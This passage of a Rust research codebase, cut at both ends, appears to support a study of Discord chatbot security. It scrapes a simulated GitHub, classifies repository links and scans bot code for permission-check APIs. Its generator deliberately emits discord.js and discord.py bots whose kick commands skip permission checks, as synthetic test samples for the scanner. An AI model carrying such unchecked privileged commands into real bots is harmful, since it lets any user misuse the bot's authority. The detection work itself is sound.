            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        format!("v1-{h:016x}")
    }

    fn repo_etag(repo: &Repository) -> String {
        let mut parts: Vec<&[u8]> = vec![repo.slug.as_bytes(), repo.description.as_bytes()];
        for f in &repo.files {
            parts.push(f.path.as_bytes());
            parts.push(f.content.as_bytes());
        }
        Self::view_etag(&parts)
    }

    /// Conditional-GET aware wrapper: 304 on a validator match, otherwise
    /// the rendered body stamped with its validator.
    fn serve(req: &Request, etag: String, render: impl FnOnce() -> Response) -> Response {
        if req.header("if-none-match") == Some(etag.as_str()) {
            return Response::not_modified(&etag);
        }
        render().with_header("etag", &etag)
    }

    fn render_repo(repo: &Repository) -> String {
        let lang_badge = repo
            .main_language()
            .map(|l| l.to_string())
            .unwrap_or_else(|| "None".to_string());
        let files = el("ul").id("files").children(repo.files.iter().map(|f| {
            el("li").child(
                el("a")
                    .class("file-link")
                    .attr("href", &format!("/{}/raw/{}", repo.slug, f.path))
                    .text(f.path.clone()),
            )
        }));
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text(repo.slug.clone())))
                .child(
                    el("body").child(
                        el("div")
                            .id("repo")
                            .attr("data-slug", &repo.slug)
                            .child(el("p").class("description").text(repo.description.clone()))
                            .child(el("span").class("main-language").text(lang_badge))
                            .child(files),
                    ),
                )
                .build(),
        );
        render_document(&doc)
    }

    fn render_profile(owner: &str, slugs: &[String]) -> String {
        let repo_list = el("ul").id("repo-list").children(slugs.iter().map(|s| {
            el("li").child(
                el("a")
                    .class("repo-link")
                    .attr("href", &format!("/{s}"))
                    .text(s.clone()),
            )
        }));
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text(format!("{owner} — profile"))))
                .child(
                    el("body").child(
                        el("div")
                            .id("profile")
                            .attr("data-owner", owner)
                            .child(repo_list),
                    ),
                )
                .build(),
        );
        render_document(&doc)
    }
}

impl Service for GitHubSite {
    fn handle(&mut self, req: &Request, _ctx: &mut ServiceCtx<'_>) -> Response {
        let inner = self.inner.lock();
        let segments = req.url.segments();
        match segments.as_slice() {
            [owner] => match inner.profiles.get(*owner) {
                Some(slugs) => {
                    let mut parts: Vec<&[u8]> = vec![owner.as_bytes()];
                    parts.extend(slugs.iter().map(|s| s.as_bytes()));
                    Self::serve(req, Self::view_etag(&parts), || {
                        Response::ok(Self::render_profile(owner, slugs))
                            .with_header("content-type", "text/html")
                    })
                }
                None => Response::status(Status::NotFound),
            },
            [owner, name] => {
                let slug = format!("{owner}/{name}");
                match inner.repos.get(&slug) {
                    Some(repo) => Self::serve(req, Self::repo_etag(repo), || {
                        Response::ok(Self::render_repo(repo))
                            .with_header("content-type", "text/html")
                    }),
                    None => Response::status(Status::NotFound),
                }
            }
            [owner, name, "raw", rest @ ..] => {
                let slug = format!("{owner}/{name}");
                let path = rest.join("/");
                match inner
                    .repos
                    .get(&slug)
                    .and_then(|r| r.files.iter().find(|f| f.path == path))
                {
                    Some(file) => {
                        Self::serve(req, Self::view_etag(&[file.content.as_bytes()]), || {
                            Response::ok(file.content.clone())
                        })
                    }
                    None => Response::status(Status::NotFound),
                }
            }
            _ => Response::status(Status::NotFound),
        }
    }
}

/// Resolve one scraped GitHub link, downloading repository contents when
/// the link leads to a real repo.
pub fn resolve_github_link(client: &mut HttpClient, raw_link: &str) -> LinkOutcome {
    let Ok(url) = Url::parse(raw_link) else {
        return LinkOutcome::Invalid;
    };
    if url.host != GITHUB_HOST {
        return LinkOutcome::Invalid;
    }
    let page = match client.get(url.clone()) {
        Ok(resp) if resp.status.is_success() => resp.text(),
        _ => return LinkOutcome::Invalid,
    };
    let Ok(doc) = parse_document(&page) else {
        return LinkOutcome::Invalid;
    };

    if let Ok(repo_div) = Locator::id("repo").find(&doc) {
        let slug = repo_div.attr("data-slug").unwrap_or_default().to_string();
        let description = Locator::css("p.description")
            .find(&doc)
            .map(|n| n.text_content())
            .unwrap_or_default();
        let mut files = Vec::new();
        if let Ok(links) = Locator::class("file-link").find_all(&doc) {
            for link in links {
                let Some(href) = link.attr("href") else {
                    continue;
                };
                let Ok(raw_url) = url.join(href) else {
                    continue;
                };
                if let Ok(resp) = client.get(raw_url) {
                    if resp.status.is_success() {
                        let path = link.text_content();
                        files.push(SourceFile::new(&path, &resp.text()));
                    }
                }
            }
        }
        return LinkOutcome::ValidRepo(Repository::new(&slug, &description, files));
    }

    if Locator::id("profile").find(&doc).is_ok() {
        let count = Locator::class("repo-link")
            .find_all(&doc)
            .map(|v| v.len())
            .unwrap_or(0);
        return if count == 0 {
            LinkOutcome::NoPublicRepos
        } else {
            LinkOutcome::UserProfile
        };
    }

    LinkOutcome::Invalid
}

/// Convenience: resolve and, if valid, return the repository.
pub fn fetch_repository(client: &mut HttpClient, raw_link: &str) -> Result<Repository, NetError> {
    match resolve_github_link(client, raw_link) {
        LinkOutcome::ValidRepo(repo) => Ok(repo),
        other => Err(NetError::Malformed {
            reason: format!("not a repo link: {other:?}"),
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::genrepo;
    use netsim::client::ClientConfig;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn setup() -> (Network, GitHubSite, HttpClient) {
        let net = Network::new(3);
        let site = GitHubSite::new();
        site.mount(&net);
        let client = HttpClient::new(net.clone(), ClientConfig::impolite("test-scraper"));
        (net, site, client)
    }

    #[test]
    fn valid_repo_roundtrips_through_scrape() {
        let (_net, site, mut client) = setup();
        let mut rng = StdRng::seed_from_u64(21);
        let original = genrepo::js_bot_repo(&mut rng, "alice/modbot", true);
        site.publish(original.clone());

        let outcome = resolve_github_link(&mut client, "https://github.sim/alice/modbot");
        let LinkOutcome::ValidRepo(fetched) = outcome else {
            panic!("expected repo, got {outcome:?}")
        };
        assert_eq!(fetched.slug, original.slug);
        assert_eq!(fetched.files.len(), original.files.len());
        // Content integrity: the scanner sees the same verdict.
        assert_eq!(
            crate::scanner::scan_repository(&fetched).performs_checks(),
            crate::scanner::scan_repository(&original).performs_checks()
        );
        assert_eq!(fetched.main_language(), original.main_language());
    }

    #[test]
    fn profile_link_classified() {
        let (_net, site, mut client) = setup();
        let mut rng = StdRng::seed_from_u64(22);
        site.publish(genrepo::py_bot_repo(&mut rng, "bob/funbot", false));
        assert_eq!(
            resolve_github_link(&mut client, "https://github.sim/bob"),
            LinkOutcome::UserProfile
        );
    }

    #[test]
    fn empty_profile_classified() {
        let (_net, site, mut client) = setup();
        site.publish_empty_profile("ghost");
        assert_eq!(
            resolve_github_link(&mut client, "https://github.sim/ghost"),
            LinkOutcome::NoPublicRepos
        );
    }

    #[test]
    fn dead_and_malformed_links_invalid() {
        let (_net, _site, mut client) = setup();
        assert_eq!(
            resolve_github_link(&mut client, "https://github.sim/missing/repo"),
            LinkOutcome::Invalid
        );
        assert_eq!(
            resolve_github_link(&mut client, "not a url"),
            LinkOutcome::Invalid
        );
        assert_eq!(
            resolve_github_link(&mut client, "https://elsewhere.example/x"),
            LinkOutcome::Invalid
        );
    }

    #[test]
    fn fetch_repository_helper() {
        let (_net, site, mut client) = setup();
        site.publish(genrepo::readme_only_repo("carol/docs"));
        let repo = fetch_repository(&mut client, "https://github.sim/carol/docs").unwrap();
        assert!(!repo.has_source_code());
        assert!(fetch_repository(&mut client, "https://github.sim/carol").is_err());
    }

    #[test]
    fn raw_file_endpoint_serves_content() {
        let (net, site, _client) = setup();
        let mut rng = StdRng::seed_from_u64(23);
        site.publish(genrepo::js_bot_repo(&mut rng, "dev/bot", true));
        let mut client = HttpClient::new(net, ClientConfig::impolite("raw"));
        let resp = client
            .get(Url::https(GITHUB_HOST, "/dev/bot/raw/index.js"))
            .unwrap();
        assert!(resp.text().contains("discord.js"));
        let missing = client
            .get(Url::https(GITHUB_HOST, "/dev/bot/raw/nope.js"))
            .unwrap();
        assert_eq!(missing.status, Status::NotFound);
    }
}
