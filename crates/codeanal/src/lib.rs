//! # codeanal — static analysis of chatbot source code
//!
//! §3 "Code Analysis" / §4.2 "Discord Chatbots Code Analysis": collect the
//! GitHub links from bot listings, resolve them (many are profiles, empty,
//! or dead), detect each repository's main language, and scan JavaScript
//! and Python sources for the four permission-check API patterns of
//! Table 3. A bot whose privileged commands never consult those APIs is a
//! permission re-delegation hazard.
//!
//! * [`repo`] — the repository model and language detection;
//! * [`scanner`] — the Table 3 pattern scanner (comment/string aware);
//! * [`genrepo`] — seeded generators for realistic bot repositories
//!   (discord.js / discord.py idioms, README-only repos, license dumps);
//! * [`github`] — a GitHub-like site mounted on `netsim`, plus the
//!   link-resolution scraper that classifies scraped GitHub URLs;
//! * [`cache`] — the cross-bot memo table that lets parallel analysis
//!   workers resolve each distinct GitHub URL exactly once.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod cache;
pub mod genrepo;
pub mod github;
pub mod repo;
pub mod scanner;

pub use cache::LinkCache;
pub use repo::{Language, Repository, SourceFile};
pub use scanner::{
    scan_repository, scanner_kernel_stats, CheckPattern, ScanReport, ScannerKernelStats,
};
