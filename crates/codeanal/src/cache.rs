//! Cross-bot memoization for GitHub link resolution.
//!
//! Many listings point at the same repository or profile (shared developer
//! accounts, template bots republished under several names). Resolving a
//! link is the most network-heavy part of stage 3 — page fetch plus one
//! round trip per source file — so the parallel audit engine shares one
//! [`LinkCache`] across all analysis workers and resolves each normalized
//! URL exactly once.

use crate::github::{resolve_github_link, LinkOutcome};
use netsim::http::Url;
use netsim::HttpClient;
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};

/// A thread-safe memo table from normalized GitHub URL to resolution
/// outcome. Shared (`&LinkCache`) between analysis workers.
#[derive(Default)]
pub struct LinkCache {
    map: Mutex<BTreeMap<String, LinkOutcome>>,
    hits: AtomicU64,
    misses: AtomicU64,
}

impl LinkCache {
    /// An empty cache.
    pub fn new() -> LinkCache {
        LinkCache::default()
    }

    /// Canonical cache key for a raw link: lowercased host plus path with
    /// any trailing slash trimmed, so `https://github.sim/Dev/Bot/` and
    /// `https://github.sim/dev/bot` memoize together the way the live site
    /// serves them. Unparseable links key on their raw text (they all
    /// resolve to [`LinkOutcome::Invalid`] anyway).
    pub fn normalize(raw_link: &str) -> String {
        match Url::parse(raw_link) {
            Ok(url) => {
                format!(
                    "{}{}",
                    url.host,
                    url.path.to_lowercase().trim_end_matches('/')
                )
            }
            Err(_) => raw_link.to_string(),
        }
    }

    /// Resolve `raw_link`, consulting the memo table first. A miss performs
    /// the real [`resolve_github_link`] scrape over `client` and stores the
    /// outcome; a hit returns the stored outcome without touching the
    /// network.
    pub fn resolve(&self, client: &mut HttpClient, raw_link: &str) -> LinkOutcome {
        let key = Self::normalize(raw_link);
        if let Some(cached) = self.map.lock().get(&key).cloned() {
            self.hits.fetch_add(1, Ordering::Relaxed);
            return cached;
        }
        // Resolve outside the map lock so other workers' lookups (and
        // their cold resolutions) proceed concurrently. Two workers racing
        // on the same cold key both scrape, deterministically producing the
        // same outcome; the second insert is a no-op overwrite.
        let outcome = resolve_github_link(client, raw_link);
        self.misses.fetch_add(1, Ordering::Relaxed);
        self.map.lock().insert(key, outcome.clone());
        outcome
    }

    /// Lookups served from the memo table.
    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Lookups that performed a real resolution.
    pub fn misses(&self) -> u64 {
        self.misses.load(Ordering::Relaxed)
    }

    /// Distinct normalized URLs resolved so far.
    pub fn len(&self) -> usize {
        self.map.lock().len()
    }

    /// Whether the cache is still empty.
    pub fn is_empty(&self) -> bool {
        self.map.lock().is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::genrepo;
    use crate::github::GitHubSite;
    use netsim::client::ClientConfig;
    use netsim::Network;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn world() -> (Network, GitHubSite) {
        let net = Network::new(9);
        let site = GitHubSite::new();
        site.mount(&net);
        (net, site)
    }

    fn client(net: &Network) -> HttpClient {
        HttpClient::new(net.clone(), ClientConfig::impolite("cache-test"))
    }

    #[test]
    fn hit_equals_cold_resolution() {
        let (net, site) = world();
        let mut rng = StdRng::seed_from_u64(31);
        site.publish(genrepo::js_bot_repo(&mut rng, "alice/modbot", true));

        let cache = LinkCache::new();
        let mut c = client(&net);
        let cold = cache.resolve(&mut c, "https://github.sim/alice/modbot");
        let hit = cache.resolve(&mut c, "https://github.sim/alice/modbot");
        let direct = resolve_github_link(&mut c, "https://github.sim/alice/modbot");
        assert_eq!(cold, direct);
        assert_eq!(hit, direct);
        assert_eq!((cache.hits(), cache.misses()), (1, 1));
    }

    #[test]
    fn normalization_collapses_variants() {
        let (net, site) = world();
        let mut rng = StdRng::seed_from_u64(32);
        site.publish(genrepo::py_bot_repo(&mut rng, "bob/funbot", false));

        let cache = LinkCache::new();
        let mut c = client(&net);
        cache.resolve(&mut c, "https://github.sim/bob/funbot");
        cache.resolve(&mut c, "https://github.sim/bob/funbot/");
        assert_eq!((cache.hits(), cache.misses(), cache.len()), (1, 1, 1));
    }

    #[test]
    fn invalid_links_memoize_too() {
        let (net, _site) = world();
        let cache = LinkCache::new();
        let mut c = client(&net);
        assert_eq!(cache.resolve(&mut c, "not a url"), LinkOutcome::Invalid);
        assert_eq!(cache.resolve(&mut c, "not a url"), LinkOutcome::Invalid);
        assert_eq!((cache.hits(), cache.misses()), (1, 1));
        assert!(!cache.is_empty());
    }

    #[test]
    fn hit_skips_the_network() {
        let (net, site) = world();
        let mut rng = StdRng::seed_from_u64(33);
        site.publish(genrepo::js_bot_repo(&mut rng, "carol/bigbot", true));

        let cache = LinkCache::new();
        let mut cold_client = client(&net);
        cache.resolve(&mut cold_client, "https://github.sim/carol/bigbot");
        let cold_requests = cold_client.stats().dispatches;

        let mut warm_client = client(&net);
        cache.resolve(&mut warm_client, "https://github.sim/carol/bigbot");
        assert!(cold_requests > 0);
        assert_eq!(warm_client.stats().dispatches, 0, "hit must not fetch");
    }
}
