//! Seeded generators for realistic chatbot repositories.
//!
//! The synthetic ecosystem plants repositories with known ground truth
//! (language, whether they check invoker permissions) and the scanner must
//! recover it through the same fuzz a real scan faces: comments that
//! *mention* the APIs, strings that contain them, README-only repos, and
//! license dumps.

use crate::repo::{Repository, SourceFile};
use rand::Rng;

fn pick<'a, R: Rng + ?Sized>(rng: &mut R, options: &[&'a str]) -> &'a str {
    options[rng.gen_range(0..options.len())]
}

/// A JavaScript (discord.js-style) bot repo.
///
/// When `with_checks` is true the privileged command verifies the invoker
/// with one of the Table 3 APIs; otherwise it acts on the bot's authority
/// alone (the re-delegation hazard).
pub fn js_bot_repo<R: Rng + ?Sized>(rng: &mut R, slug: &str, with_checks: bool) -> Repository {
    let prefix = pick(rng, &["!", "?", "$", "-"]);
    let check = if with_checks {
        match rng.gen_range(0..3) {
            0 => {
                "  if (!message.member.hasPermission('KICK_MEMBERS')) return message.reply('no');\n"
            }
            1 => "  if (!message.member.permissions.has(Permissions.FLAGS.KICK_MEMBERS)) return;\n",
            _ => "  if (!message.member.roles.cache.some(r => r.name === 'Mod')) return;\n",
        }
    } else {
        // A decoy comment mentioning the API — the scanner must not count it.
        "  // TODO maybe check .hasPermission( someday\n"
    };
    let index = format!(
        "const Discord = require('discord.js');\n\
         const client = new Discord.Client();\n\
         const PREFIX = '{prefix}';\n\
         client.on('message', message => {{\n\
           if (!message.content.startsWith(PREFIX)) return;\n\
           const cmd = message.content.slice(PREFIX.length).split(' ')[0];\n\
           if (cmd === 'kick') return require('./commands/kick')(message);\n\
           if (cmd === 'ping') return message.reply('pong');\n\
         }});\n\
         client.login(process.env.TOKEN);\n"
    );
    let kick = format!(
        "module.exports = (message) => {{\n\
         {check}\
           const target = message.mentions.members.first();\n\
           if (target) target.kick('requested');\n\
           message.channel.send('done, see https://example-docs.invalid/kick');\n\
         }};\n"
    );
    let extra = if with_checks && rng.gen_bool(0.3) {
        // Some conscientious repos also declare userPermissions metadata.
        "module.exports.userPermissions = ['KICK_MEMBERS'];\n"
    } else {
        ""
    };
    Repository::new(
        slug,
        "A moderation bot built with discord.js",
        vec![
            SourceFile::new("index.js", &index),
            SourceFile::new("commands/kick.js", &format!("{kick}{extra}")),
            SourceFile::new("README.md", "# Bot\nInvite and enjoy."),
            SourceFile::new(
                "package.json",
                "{ \"dependencies\": { \"discord.js\": \"^13\" } }",
            ),
        ],
    )
}

/// A Python (discord.py-style) bot repo.
pub fn py_bot_repo<R: Rng + ?Sized>(rng: &mut R, slug: &str, with_checks: bool) -> Repository {
    let check = if with_checks {
        match rng.gen_range(0..2) {
            0 => "    if not ctx.author.guild_permissions.has(kick_members=True):\n        return await ctx.send('no')\n",
            _ => "    allowed = ctx.userPermissions\n    if 'kick_members' not in allowed:\n        return\n",
        }
    } else {
        "    # permissive: anyone may invoke this\n"
    };
    let bot = format!(
        "import discord\n\
         from discord.ext import commands\n\n\
         bot = commands.Bot(command_prefix='{}')\n\n\
         @bot.command()\n\
         async def kick(ctx, member: discord.Member):\n\
         {check}\
             await member.kick(reason='requested')\n\
             await ctx.send('done')\n\n\
         @bot.command()\n\
         async def ping(ctx):\n\
             \"\"\"docstring mentioning .has( for laughs\"\"\"\n\
             await ctx.send('pong')\n\n\
         bot.run('TOKEN')\n",
        pick(rng, &["!", "?", "$"])
    );
    Repository::new(
        slug,
        "A moderation bot built with discord.py",
        vec![
            SourceFile::new("bot.py", &bot),
            SourceFile::new("requirements.txt", "discord.py>=1.7"),
            SourceFile::new("README.md", "# Bot\npip install -r requirements.txt"),
        ],
    )
}

/// A "valid repository" that contains no source at all — only a READ.ME
/// with command descriptions (the population §4.2 describes).
pub fn readme_only_repo(slug: &str) -> Repository {
    Repository::new(
        slug,
        "Documentation for my bot",
        vec![SourceFile::new(
            "READ.ME",
            "# MyBot\n\nCommands:\n- !help\n- !kick (requires .hasPermission( on your side)\n",
        )],
    )
}

/// A repo holding only licensing and changelog text.
pub fn license_only_repo(slug: &str) -> Repository {
    Repository::new(
        slug,
        "license and changelogs",
        vec![
            SourceFile::new("LICENSE", "MIT License\n\nPermission is hereby granted..."),
            SourceFile::new("CHANGELOG.txt", "v2.0 rewrote everything\nv1.0 initial"),
        ],
    )
}

/// A bot in a language outside the analysis scope.
pub fn other_language_repo<R: Rng + ?Sized>(rng: &mut R, slug: &str) -> Repository {
    let (path, body, lang) = match rng.gen_range(0..3) {
        0 => (
            "main.go",
            "package main\nfunc main() { startBot() }\n",
            "Go",
        ),
        1 => (
            "Bot.java",
            "public class Bot { public static void main(String[] a) {} }\n",
            "Java",
        ),
        _ => ("main.rs", "fn main() { run_bot(); }\n", "Rust"),
    };
    Repository::new(
        slug,
        &format!("A bot written in {lang}"),
        vec![SourceFile::new(path, body)],
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::repo::Language;
    use crate::scanner::scan_repository;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn js_repo_ground_truth_recovered_by_scanner() {
        let mut rng = StdRng::seed_from_u64(11);
        for _ in 0..30 {
            let checked = js_bot_repo(&mut rng, "d/checked", true);
            assert!(scan_repository(&checked).performs_checks());
            assert_eq!(checked.main_language(), Some(Language::JavaScript));
            let unchecked = js_bot_repo(&mut rng, "d/unchecked", false);
            assert!(
                !scan_repository(&unchecked).performs_checks(),
                "decoy comment must not trip the scanner"
            );
        }
    }

    #[test]
    fn py_repo_ground_truth_recovered_by_scanner() {
        let mut rng = StdRng::seed_from_u64(12);
        for _ in 0..30 {
            let checked = py_bot_repo(&mut rng, "d/c", true);
            assert!(scan_repository(&checked).performs_checks());
            assert_eq!(checked.main_language(), Some(Language::Python));
            let unchecked = py_bot_repo(&mut rng, "d/u", false);
            assert!(
                !scan_repository(&unchecked).performs_checks(),
                "docstring mention must not trip the scanner"
            );
        }
    }

    #[test]
    fn readme_and_license_repos_have_no_source() {
        assert!(!readme_only_repo("d/r").has_source_code());
        assert!(!license_only_repo("d/l").has_source_code());
        // The READ.ME even mentions a pattern — must not count.
        assert!(!scan_repository(&readme_only_repo("d/r")).performs_checks());
    }

    #[test]
    fn other_language_repo_is_out_of_scope() {
        let mut rng = StdRng::seed_from_u64(13);
        let repo = other_language_repo(&mut rng, "d/o");
        assert!(repo.has_source_code());
        assert!(matches!(repo.main_language(), Some(Language::Other(_))));
        assert_eq!(scan_repository(&repo).files_scanned, 0);
    }

    #[test]
    fn generators_are_deterministic() {
        let a = js_bot_repo(&mut StdRng::seed_from_u64(5), "x/y", true);
        let b = js_bot_repo(&mut StdRng::seed_from_u64(5), "x/y", true);
        assert_eq!(a, b);
    }
}
