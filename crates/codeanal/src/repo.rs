//! Repository model and language detection.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Programming languages the analysis distinguishes.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Language {
    /// `discord.js` territory.
    JavaScript,
    /// Counted with JavaScript in the paper's 41%.
    TypeScript,
    /// `discord.py` territory.
    Python,
    /// Other recognized languages (Go, Java, Rust, …).
    Other(String),
}

impl fmt::Display for Language {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Language::JavaScript => f.write_str("JavaScript"),
            Language::TypeScript => f.write_str("TypeScript"),
            Language::Python => f.write_str("Python"),
            Language::Other(name) => f.write_str(name),
        }
    }
}

/// One file in a repository.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SourceFile {
    /// Path within the repo, e.g. `src/commands/kick.js`.
    pub path: String,
    /// File contents.
    pub content: String,
}

impl SourceFile {
    /// Build a file.
    pub fn new(path: &str, content: &str) -> SourceFile {
        SourceFile {
            path: path.to_string(),
            content: content.to_string(),
        }
    }

    /// Language implied by the file extension, if it is a source file.
    pub fn language(&self) -> Option<Language> {
        let ext = self.path.rsplit('.').next()?;
        Some(match ext {
            "js" | "mjs" | "cjs" | "jsx" => Language::JavaScript,
            "ts" | "tsx" => Language::TypeScript,
            "py" => Language::Python,
            "go" => Language::Other("Go".into()),
            "java" => Language::Other("Java".into()),
            "rs" => Language::Other("Rust".into()),
            "rb" => Language::Other("Ruby".into()),
            "cs" => Language::Other("C#".into()),
            _ => return None,
        })
    }
}

/// A public source repository.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Repository {
    /// `owner/name` slug.
    pub slug: String,
    /// Short description.
    pub description: String,
    /// Files.
    pub files: Vec<SourceFile>,
}

impl Repository {
    /// Build a repository.
    pub fn new(slug: &str, description: &str, files: Vec<SourceFile>) -> Repository {
        Repository {
            slug: slug.to_string(),
            description: description.to_string(),
            files,
        }
    }

    /// Whether the repo contains any recognizable source code at all. The
    /// paper found many "valid" repos holding only READ.ME/licence files.
    pub fn has_source_code(&self) -> bool {
        self.files.iter().any(|f| f.language().is_some())
    }

    /// The repo's main language: the language with the most bytes of
    /// source (mirroring the "first (main) language" GitHub reports).
    pub fn main_language(&self) -> Option<Language> {
        let mut totals: std::collections::BTreeMap<Language, usize> = Default::default();
        for f in &self.files {
            if let Some(lang) = f.language() {
                *totals.entry(lang).or_default() += f.content.len();
            }
        }
        totals
            .into_iter()
            .max_by_key(|(_, bytes)| *bytes)
            .map(|(lang, _)| lang)
    }

    /// Files in a given language.
    pub fn files_in(&self, lang: &Language) -> Vec<&SourceFile> {
        self.files
            .iter()
            .filter(|f| f.language().as_ref() == Some(lang))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn extension_language_mapping() {
        assert_eq!(
            SourceFile::new("a/b.js", "").language(),
            Some(Language::JavaScript)
        );
        assert_eq!(
            SourceFile::new("bot.py", "").language(),
            Some(Language::Python)
        );
        assert_eq!(
            SourceFile::new("x.ts", "").language(),
            Some(Language::TypeScript)
        );
        assert_eq!(
            SourceFile::new("m.go", "").language(),
            Some(Language::Other("Go".into()))
        );
        assert_eq!(SourceFile::new("README.md", "").language(), None);
        assert_eq!(SourceFile::new("LICENSE", "").language(), None);
    }

    #[test]
    fn main_language_by_bytes() {
        let repo = Repository::new(
            "dev/bot",
            "a bot",
            vec![
                SourceFile::new("index.js", "short"),
                SourceFile::new(
                    "bot.py",
                    "a much longer python file with lots of content in it",
                ),
            ],
        );
        assert_eq!(repo.main_language(), Some(Language::Python));
        assert!(repo.has_source_code());
    }

    #[test]
    fn readme_only_repo_has_no_language() {
        let repo = Repository::new(
            "dev/docs",
            "docs only",
            vec![
                SourceFile::new("READ.ME", "my bot does things, commands: !help"),
                SourceFile::new("CHANGELOG.txt", "v1.0"),
            ],
        );
        assert!(!repo.has_source_code());
        assert_eq!(repo.main_language(), None);
    }

    #[test]
    fn files_in_filters_by_language() {
        let repo = Repository::new(
            "dev/bot",
            "",
            vec![
                SourceFile::new("a.js", "x"),
                SourceFile::new("b.js", "y"),
                SourceFile::new("c.py", "z"),
            ],
        );
        assert_eq!(repo.files_in(&Language::JavaScript).len(), 2);
        assert_eq!(repo.files_in(&Language::Python).len(), 1);
    }
}
