//! The Table 3 permission-check scanner.
//!
//! | # | Pattern              |
//! |---|----------------------|
//! | 1 | `.hasPermission(`    |
//! | 2 | `.has(`              |
//! | 3 | `member.roles.cache` |
//! | 4 | `userPermissions`    |
//!
//! Matching is performed on *code*, not raw text: line comments and string
//! literals are stripped first, so `// TODO call .hasPermission()` and
//! `"say .has( to confuse scanners"` do not count. This is the automated
//! analogue of the paper's "build an automated approach that looks for
//! these APIs".

use crate::repo::{Language, Repository};
use matchkit::{AhoCorasick, ScanStats};
use serde::{Deserialize, Serialize};
use std::sync::OnceLock;

/// One of the four check patterns.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum CheckPattern {
    /// `.hasPermission(`
    HasPermission,
    /// `.has(`
    Has,
    /// `member.roles.cache`
    MemberRolesCache,
    /// `userPermissions`
    UserPermissions,
}

impl CheckPattern {
    /// All four patterns, in Table 3 order.
    pub const ALL: [CheckPattern; 4] = [
        CheckPattern::HasPermission,
        CheckPattern::Has,
        CheckPattern::MemberRolesCache,
        CheckPattern::UserPermissions,
    ];

    /// The literal source text to look for.
    pub fn needle(self) -> &'static str {
        match self {
            CheckPattern::HasPermission => ".hasPermission(",
            CheckPattern::Has => ".has(",
            CheckPattern::MemberRolesCache => "member.roles.cache",
            CheckPattern::UserPermissions => "userPermissions",
        }
    }
}

/// Scan result for one repository.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScanReport {
    /// Repo slug.
    pub slug: String,
    /// Main language scanned (only JS/TS/Python repos are scanned).
    pub language: Option<Language>,
    /// Patterns found, with occurrence counts.
    pub hits: Vec<(CheckPattern, usize)>,
    /// Total files scanned.
    pub files_scanned: usize,
}

impl ScanReport {
    /// Whether any check pattern appears — the paper's per-repo boolean.
    pub fn performs_checks(&self) -> bool {
        !self.hits.is_empty()
    }
}

/// Walk `content` and feed every *code* byte (comments removed, each string
/// literal collapsed to one space) to `emit`, in order. This is the single
/// tokenizer behind both [`strip_noncode`] (which materializes the bytes)
/// and the fused scan in [`scan_repository`] (which pipes them straight
/// into the pattern automaton and never allocates the stripped copy).
///
/// JS/TS: `//` comments, `/* */` blocks, `'`/`"`/`` ` `` strings.
/// Python: `#` comments, `'`/`"` strings (including naive triple-quote
/// handling). Escapes inside strings are honoured.
fn emit_code_bytes(content: &str, lang: &Language, mut emit: impl FnMut(u8)) {
    // Operates on raw bytes: source files can contain arbitrary UTF-8 (or
    // worse) in comments and strings, and byte-offset slicing of a &str
    // would panic on multibyte characters.
    let bytes = content.as_bytes();
    let line_comment: &[u8] = match lang {
        Language::Python => b"#",
        _ => b"//",
    };
    let block_comments = !matches!(lang, Language::Python);
    let mut i = 0;
    while i < bytes.len() {
        // Line comments.
        if bytes[i..].starts_with(line_comment) {
            while i < bytes.len() && bytes[i] != b'\n' {
                i += 1;
            }
            continue;
        }
        // Block comments.
        if block_comments && bytes[i..].starts_with(b"/*") {
            match find_subslice(&bytes[i + 2..], b"*/") {
                Some(end) => {
                    i += 2 + end + 2;
                }
                None => break, // unterminated block comment swallows the rest
            }
            continue;
        }
        // Strings.
        let c = bytes[i];
        if c == b'"' || c == b'\'' || (c == b'`' && block_comments) {
            // Triple quotes in Python.
            let triple = matches!(lang, Language::Python)
                && i + 2 < bytes.len()
                && bytes[i + 1] == c
                && bytes[i + 2] == c;
            let delim_len = if triple { 3 } else { 1 };
            let mut j = i + delim_len;
            while j < bytes.len() {
                if bytes[j] == b'\\' {
                    j += 2;
                    continue;
                }
                if triple {
                    if bytes[j..].starts_with(&[c, c, c]) {
                        j += 3;
                        break;
                    }
                    j += 1;
                } else if bytes[j] == c || bytes[j] == b'\n' {
                    j += 1;
                    break;
                } else {
                    j += 1;
                }
            }
            emit(b' '); // keep token separation
            i = j;
            continue;
        }
        emit(c);
        i += 1;
    }
}

/// Strip line comments and string literals for the given language,
/// materialized as a string. The scan hot path no longer calls this (it
/// streams [`emit_code_bytes`] straight into the automaton); it remains the
/// reference implementation the differential property tests and benches
/// compare the fused scan against.
pub fn strip_noncode(content: &str, lang: &Language) -> String {
    let mut out: Vec<u8> = Vec::with_capacity(content.len());
    emit_code_bytes(content, lang, |b| out.push(b));
    String::from_utf8_lossy(&out).into_owned()
}

/// The process-wide automaton over the four Table 3 needles, in
/// [`CheckPattern::ALL`] order. Case-sensitive, plain substring matching —
/// exactly what `code.matches(needle)` did, and since none of the needles
/// has a self-overlap (no proper border), the overlapping occurrence count
/// the automaton reports equals the non-overlapping `matches` count.
fn table3_automaton() -> &'static AhoCorasick {
    static AUTOMATON: OnceLock<AhoCorasick> = OnceLock::new();
